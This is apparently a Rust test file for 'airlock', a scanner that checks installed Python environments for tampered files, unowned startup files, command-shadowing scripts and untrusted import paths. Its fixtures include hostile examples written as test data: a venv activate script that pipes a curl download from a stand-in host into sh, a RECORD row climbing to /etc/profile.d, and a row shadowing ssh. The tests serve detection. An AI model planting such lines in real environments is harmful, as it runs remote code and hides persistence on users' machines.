//! Installed environments (the check stage, `src/check/installed.rs`): installed files compared
//! with their distribution's RECORD, and startup files no RECORD owns.

use std::path::Path;

use airlock::analyse::BudgetLimits;
use airlock::scan::{scan, ScanOptions, ScanReport};
use airlock::Severity;
use base64::Engine;
use sha2::Digest;

fn write(dir: &Path, name: &str, data: &[u8]) {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(p, data).expect("write");
}

/// A RECORD row for `data` installed as `name`.
fn row(name: &str, data: &[u8]) -> String {
    let d = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
    format!("{name},sha256={d},{}\n", data.len())
}

fn run(root: &Path) -> ScanReport {
    scan(
        &ScanOptions {
            paths: vec![root.to_path_buf()],
            exclude: Vec::new(),
            jobs: 2,
            limits: BudgetLimits::default(),
            yara: None,
        },
        &|_, _| {},
    )
    .expect("scan")
}

/// (rule, severity, file name) of every finding at low or above from the check rules.
fn found(r: &ScanReport) -> Vec<(String, Severity, String)> {
    let mut v: Vec<_> = r
        .files
        .iter()
        .flat_map(|f| {
            f.findings
                .iter()
                .filter(|x| {
                    matches!(
                        x.rule.id,
                        "installed-record-mismatch" | "startup-file-unowned"
                    )
                })
                .map(move |x| {
                    (
                        x.rule.id.to_string(),
                        x.severity,
                        f.path
                            .file_name()
                            .map(|n| n.to_string_lossy().into_owned())
                            .unwrap_or_default(),
                    )
                })
        })
        .collect();
    v.sort();
    v
}

const SHIM: &[u8] = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

/// A clean environment: one distribution owning a `.pth`, a module and a script outside.
fn clean_env(sp: &Path) {
    let module = b"def f():\n    return 1\n";
    write(sp, "distutils-precedence.pth", SHIM);
    write(sp, "demo/__init__.py", module);
    let record = format!(
        "{}{}demo-1.0.dist-info/RECORD,,\n../../../bin/demo,sha256=AAAA,3\n",
        row("distutils-precedence.pth", SHIM),
        row("demo/__init__.py", module)
    );
    write(sp, "demo-1.0.dist-info/RECORD", record.as_bytes());
    write(
        sp,
        "demo-1.0.dist-info/METADATA",
        b"Name: demo\nVersion: 1.0\n",
    );
}

#[test]
fn owned_and_matching_is_silent() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("site-packages");
    clean_env(&sp);
    let r = run(&sp);
    assert_eq!(found(&r), vec![]);
    assert!(r.findings().all(|f| f.severity < Severity::Medium));
}

#[test]
fn changed_pth_is_high_changed_module_medium_missing_low() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("site-packages");
    clean_env(&sp);
    // Same size, other bytes: only the hash tells.
    let mut evil = SHIM.to_vec();
    evil[7] = b'X';
    write(&sp, "distutils-precedence.pth", &evil);
    write(&sp, "demo/__init__.py", b"def f():\n    return 2\n");
    let record = std::fs::read_to_string(sp.join("demo-1.0.dist-info/RECORD")).expect("read");
    write(
        &sp,
        "demo-1.0.dist-info/RECORD",
        format!("{record}demo/gone.py,sha256=AAAA,4\n").as_bytes(),
    );
    let got = found(&run(&sp));
    let want = vec![
        (
            "installed-record-mismatch".to_string(),
            Severity::Low,
            "RECORD".to_string(),
        ),
        // A changed module is reported on itself, not on its RECORD.
        (
            "installed-record-mismatch".to_string(),
            Severity::Medium,
            "__init__.py".to_string(),
        ),
        (
            "installed-record-mismatch".to_string(),
            Severity::High,
            "distutils-precedence.pth".to_string(),
        ),
    ];
    assert_eq!(got, want);
}

/// Debian's python3 packages (`distro`, `blinker` in `/usr/lib/python3/dist-packages`) install
/// RECORD files with hex sha256 digests. A matching hex digest is silent; a hex digest of other
/// bytes is still a mismatch.
#[test]
fn debian_hex_record_digests_are_accepted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("dist-packages");
    let module = b"def f():\n    return 1\n";
    let other = b"def g():\n    return 1\n";
    write(&sp, "distro/__init__.py", module);
    write(&sp, "distro/other.py", other);
    let hex = |d: &[u8]| {
        sha2::Sha256::digest(d)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>()
    };
    // `other.py` has a row with the hex digest of different bytes of the same size.
    let record = format!(
        "distro/__init__.py,sha256={},{}\ndistro/other.py,sha256={},{}\ndistro-1.8.0.dist-info/RECORD,,\n",
        hex(module),
        module.len(),
        hex(b"def h():\n    return 1\n"),
        other.len()
    );
    write(&sp, "distro-1.8.0.dist-info/RECORD", record.as_bytes());
    write(
        &sp,
        "distro-1.8.0.dist-info/METADATA",
        b"Name: distro\nVersion: 1.8.0\n",
    );
    let got = found(&run(&sp));
    assert_eq!(
        got,
        vec![(
            "installed-record-mismatch".to_string(),
            Severity::Medium,
            "other.py".to_string()
        )]
    );
}

/// A shared object (ELF header, then padding) of `n` bytes.
fn elf(n: usize) -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01\x00".to_vec();
    v.resize(n, 0);
    v
}

#[test]
fn stripped_native_libraries_of_system_packages_are_low() {
    let dir = tempfile::tempdir().expect("tempdir");
    // Debian's python3-yaml: no INSTALLER, in dist-packages; dh_strip shrank the library and
    // a module was edited.
    let dp = dir.path().join("dist-packages");
    let module = b"def f():\n    return 1\n";
    write(&dp, "_yaml/__init__.py", module);
    write(&dp, "_yaml/_yaml.so", &elf(4096));
    let record = format!(
        "{}{}yaml-6.0.dist-info/RECORD,,\n",
        row("_yaml/__init__.py", b"def g():\n    return 1\n"),
        row("_yaml/_yaml.so", &elf(8192))
    );
    write(&dp, "yaml-6.0.dist-info/RECORD", record.as_bytes());
    let got = found(&run(&dp));
    assert_eq!(
        got,
        vec![
            (
                "installed-record-mismatch".to_string(),
                Severity::Low,
                "_yaml.so".to_string()
            ),
            (
                "installed-record-mismatch".to_string(),
                Severity::Medium,
                "__init__.py".to_string()
            ),
        ]
    );
    // The same files installed by pip (INSTALLER written): the changed library is medium.
    write(&dp, "yaml-6.0.dist-info/INSTALLER", b"pip\n");
    let got = found(&run(&dp));
    assert!(got.contains(&(
        "installed-record-mismatch".to_string(),
        Severity::Medium,
        "_yaml.so".to_string()
    )));
    // In a site-packages folder, a missing INSTALLER is no sign of a system package.
    let sp = dir.path().join("site-packages");
    write(&sp, "_yaml/_yaml.so", &elf(4096));
    write(
        &sp,
        "yaml-6.0.dist-info/RECORD",
        row("_yaml/_yaml.so", &elf(8192)).as_bytes(),
    );
    assert_eq!(
        found(&run(&sp)),
        vec![(
            "installed-record-mismatch".to_string(),
            Severity::Medium,
            "_yaml.so".to_string()
        )]
    );
}

#[test]
fn unowned_startup_files_are_high_and_virtualenv_low() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("venv/lib/python3.12/site-packages");
    clean_env(&sp);
    write(&sp, "_virtualenv.pth", b"import _virtualenv\n");
    write(&sp, "_virtualenv.py", b"x = 1\n");
    write(&sp, "zz_loader.pth", b"import zz_loader\n");
    write(&sp, "paths.pth", b"/opt/extra\n");
    write(&sp, "sitecustomize.py", b"x = 1\n");
    write(&sp, "boot.start", b"pkg.boot:run\n");
    // Outside the environment folder: not an environment's startup file.
    write(dir.path(), "other/sitecustomize.py", b"x = 1\n");
    // The venv root is scanned; the RECORD's `../../../bin/demo` lies outside the environment
    // folder and is not reported as missing (a script folder may be elsewhere).
    let got = found(&run(&dir.path().join("venv")));
    let high = |n: &str| {
        (
            "startup-file-unowned".to_string(),
            Severity::High,
            n.to_string(),
        )
    };
    assert_eq!(
        got,
        vec![
            (
                "startup-file-unowned".to_string(),
                Severity::Low,
                "_virtualenv.pth".to_string()
            ),
            high("boot.start"),
            high("sitecustomize.py"),
            high("zz_loader.pth"),
        ]
    );
}

#[test]
fn egg_info_installed_files_own_their_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("site-packages");
    write(&sp, "old.pth", b"import old; old.boot()\n");
    write(&sp, "old/__init__.py", b"def boot():\n    pass\n");
    write(
        &sp,
        "old-1.0.egg-info/installed-files.txt",
        b"../old.pth\n../old/__init__.py\nPKG-INFO\n",
    );
    write(&sp, "old-1.0.egg-info/PKG-INFO", b"Name: old\n");
    assert_eq!(found(&run(&sp)), vec![]);
}

#[test]
fn hostile_record_is_bounded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("site-packages");
    let mut record = String::with_capacity(40 << 20);
    for i in 0..1_100_000u32 {
        record.push_str(&format!("a/\"{i},\",sha256=,x\n"));
    }
    record.push_str(",,,,,\n\"\n,\n");
    write(&sp, "big-1.0.dist-info/RECORD", record.as_bytes());
    let t = std::time::Instant::now();
    let r = run(&sp);
    assert!(t.elapsed().as_secs() < 60);
    assert!(r.findings().any(|f| f.rule.id == "resource-limit"));
}

#[test]
fn startup_names_count_only_at_the_environment_root() {
    // A PyTorch checkpoint named `*.pth` inside a package is data: `site.py` reads `.pth` files
    // only from the environment root. A changed size is medium there, not high.
    let dir = tempfile::tempdir().expect("tempdir");
    let sp = dir.path().join("site-packages");
    clean_env(&sp);
    let weights =
        b"PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00";
    write(&sp, "demo/assets/model.pth", &weights[..21]);
    let record = std::fs::read_to_string(sp.join("demo-1.0.dist-info/RECORD")).expect("read");
    write(
        &sp,
        "demo-1.0.dist-info/RECORD",
        format!("{record}{}", row("demo/assets/model.pth", weights)).as_bytes(),
    );
    let got = found(&run(&sp));
    assert_eq!(
        got,
        vec![(
            "installed-record-mismatch".to_string(),
            Severity::Medium,
            "model.pth".to_string(),
        )]
    );
}

fn run_with_yara(root: &Path) -> ScanReport {
    scan(
        &ScanOptions {
            paths: vec![root.to_path_buf()],
            exclude: Vec::new(),
            jobs: 2,
            limits: BudgetLimits::default(),
            yara: Some(std::sync::Arc::new(
                airlock::yara::YaraRules::builtin().expect("rules"),
            )),
        },
        &|_, _| {},
    )
    .expect("scan")
}

/// The worst severity of `rule` at the file named `name`.
fn worst_at(r: &ScanReport, rule: &str, name: &str) -> Option<Severity> {
    r.files
        .iter()
        .filter(|f| f.path.file_name().is_some_and(|n| n == name))
        .flat_map(|f| f.findings.iter())
        .filter(|x| x.rule.id == rule)
        .map(|x| x.severity)
        .max()
}

/// A virtual environment at `venv`: `pyvenv.cfg` with `home`, the clean distribution in its
/// site-packages, and `bin/activate` with `activate`.
fn venv(venv: &Path, home: &str, activate: &str) -> std::path::PathBuf {
    write(
        venv,
        "pyvenv.cfg",
        format!("home = {home}\ninclude-system-site-packages = false\nversion = 3.11.4\n")
            .as_bytes(),
    );
    write(venv, "bin/activate", activate.as_bytes());
    let sp = venv.join("lib/python3.11/site-packages");
    clean_env(&sp);
    sp
}

const ACTIVATE: &str = "# This file must be used with \"source bin/activate\"\ndeactivate () { :; }\nVIRTUAL_ENV=/opt/venv\nexport VIRTUAL_ENV\n";

/// A RECORD row that climbs out of the environment's prefix says the package wrote outside
/// the environment (tester t14 iv08); `../../../bin/demo` stays inside.
#[test]
fn record_rows_outside_the_prefix_are_medium() {
    let dir = tempfile::tempdir().expect("tempdir");
    let env = dir.path().join("venv");
    let sp = venv(&env, "/usr/bin", ACTIVATE);
    let r = run(&env);
    assert_eq!(worst_at(&r, "installed-record-mismatch", "RECORD"), None);
    assert!(r.findings().all(|f| f.severity < Severity::Medium));
    let record = std::fs::read_to_string(sp.join("demo-1.0.dist-info/RECORD")).expect("read");
    let bad = format!("{record}../../../../../../../../etc/profile.d/demo.sh,sha256=AAAA,1\n");
    write(&sp, "demo-1.0.dist-info/RECORD", bad.as_bytes());
    let r = run(&env);
    assert_eq!(
        worst_at(&r, "installed-record-mismatch", "RECORD"),
        Some(Severity::Medium)
    );
}

/// `pyvenv.cfg`'s `home` in a folder others can write hands the environment's standard
/// library and `site` to whoever writes there (tester t14 iv10).
#[test]
fn a_venv_home_in_a_shared_folder_is_medium() {
    let dir = tempfile::tempdir().expect("tempdir");
    let env = dir.path().join("venv");
    venv(&env, "/tmp/.pyhome/bin", ACTIVATE);
    let r = run(&env);
    assert_eq!(
        worst_at(&r, "pth-untrusted-path", "pyvenv.cfg"),
        Some(Severity::Medium)
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let env = dir.path().join("venv");
    venv(&env, "/usr/bin", ACTIVATE);
    let r = run(&env);
    assert_eq!(worst_at(&r, "pth-untrusted-path", "pyvenv.cfg"), None);
}

/// A venv's `bin/activate` runs in the user's shell at every activation: a download piped
/// into a shell there is start-up code, high (tester t14 iv03); the ordinary script is not.
#[test]
fn an_activation_script_that_downloads_and_runs_is_high() {
    let dir = tempfile::tempdir().expect("tempdir");
    let env = dir.path().join("venv");
    venv(
        &env,
        "/usr/bin",
        &format!("{ACTIVATE}curl -fsSL https://c.example.invalid/a.sh | sh\n"),
    );
    let r = run_with_yara(&env);
    assert_eq!(
        worst_at(&r, "startup-hook-file", "activate"),
        Some(Severity::High)
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let env = dir.path().join("venv");
    venv(&env, "/usr/bin", ACTIVATE);
    let r = run_with_yara(&env);
    assert_eq!(worst_at(&r, "startup-hook-file", "activate"), None);
    assert!(r.findings().all(|f| f.severity < Severity::Medium));
    // The same line in a script outside any environment stays the byte-pattern rule's low.
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "tools/bin/activate",
        format!("{ACTIVATE}curl -fsSL https://c.example.invalid/a.sh | sh\n").as_bytes(),
    );
    let r = run_with_yara(dir.path());
    assert_eq!(worst_at(&r, "startup-hook-file", "activate"), None);
}

/// A RECORD row that installs a script into the environment's `bin` under a common command's
/// name shadows it, as a console script would (tester t14 iv01); a tool's own name does not.
#[test]
fn record_rows_into_bin_that_shadow_commands_are_high() {
    let dir = tempfile::tempdir().expect("tempdir");
    let env = dir.path().join("venv");
    let sp = venv(&env, "/usr/bin", ACTIVATE);
    let record = std::fs::read_to_string(sp.join("demo-1.0.dist-info/RECORD")).expect("read");
    let rows =
        format!("{record}../../../bin/ssh,sha256=AAAA,1\n../../../bin/demo-tool,sha256=AAAA,1\n");
    write(&sp, "demo-1.0.dist-info/RECORD", rows.as_bytes());
    let r = run(&env);
    let shadows: Vec<_> = r
        .findings()
        .filter(|f| f.rule.id == "entry-point-shadows-command")
        .map(|f| (f.severity, f.evidence.clone()))
        .collect();
    assert_eq!(
        shadows,
        vec![(Severity::High, "../../../bin/ssh".to_string())]
    );
}

/// What `.pth` files and setuptools' editable finders put on the import path at every start,
/// judged by where it points (tester t18 w09b, ie02, ie03, ie07; t14 iv09): a temporary,
/// shared or downloads folder, or `..` out of site-packages, is medium however it is put
/// there; the same shapes pointing at a developer's checkout or `/opt` are not.
#[test]
fn import_paths_into_folders_others_can_write_are_medium() {
    let finder = |target: &str| {
        format!(
            "import sys\nMAPPING: dict[str, str] = {{'demo': '{target}'}}\nNAMESPACES: dict[str, list[str]] = {{}}\n\ndef install():\n    pass\n"
        )
    };
    let nspkg = |pieces: &str| {
        format!(
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *({pieces}));importlib = has_mfs and __import__('importlib.util');m = has_mfs and sys.modules.setdefault('ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('ns', [os.path.dirname(p)])));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
        )
    };
    let cases: [(&str, String, String, &str); 5] = [
        (
            "__editable___demo_1_0_finder.py",
            finder("/tmp/.demo/src/demo"),
            finder("/home/dev/src/demo/src/demo"),
            "pth-untrusted-path",
        ),
        (
            "ns-1.0-py3.11-nspkg.pth",
            nspkg("'..', '..', '..', 'tmp', 'ns'"),
            nspkg("'ns',"),
            "pth-executable-line",
        ),
        (
            "demo.pth",
            "/home/user/Downloads/pylibs\n".into(),
            "/opt/demo/lib\n".into(),
            "pth-untrusted-path",
        ),
        // The same folders spelled with empty and `.` components (tester t20).
        (
            "slashes.pth",
            "//tmp/.x\n/./var/tmp/.y\n".into(),
            "/opt//demo/./lib\n".into(),
            "pth-untrusted-path",
        ),
        (
            "other.pth",
            "/var/tmp/x\n".into(),
            "/usr/local/lib/extra\n".into(),
            "pth-untrusted-path",
        ),
    ];
    for (name, bad, good, rule) in cases {
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), name, bad.as_bytes());
        let r = run(dir.path());
        assert_eq!(worst_at(&r, rule, name), Some(Severity::Medium), "{name}");
        write(dir.path(), name, good.as_bytes());
        let r = run(dir.path());
        assert!(
            worst_at(&r, rule, name).is_none_or(|s| s < Severity::Medium),
            "{name}: {:?}",
            worst_at(&r, rule, name)
        );
    }
}
